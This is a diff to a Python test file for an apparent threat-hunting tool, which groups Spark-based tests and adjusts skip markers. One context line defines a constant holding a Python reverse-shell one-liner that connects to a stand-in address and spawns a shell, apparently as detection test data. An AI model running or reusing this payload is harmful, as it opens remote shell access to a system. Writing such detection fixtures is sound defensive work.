@@ -24,7 +24,10 @@ from tests.hunt.helpers import event, written
 from tests.hunt.test_formats import CASES
 
 pyspark = pytest.importorskip("pyspark")
-pytestmark = pytest.mark.skipif(shutil.which("java") is None, reason="no Java: tools/setup.sh test installs one")
+pytestmark = [
+    pytest.mark.skipif(shutil.which("java") is None, reason="no Java: tools/setup.sh test installs one"),
+    pytest.mark.xdist_group("spark"),  # one session for all
+]
 LOUD = "import socket,os;s=socket.socket();s.connect(('192.0.2.1',4444));os.dup2(s.fileno(),0);os.system('/bin/sh')"
 ROOT = Path(__file__).parents[2]
 SPLIT = 1 << 14
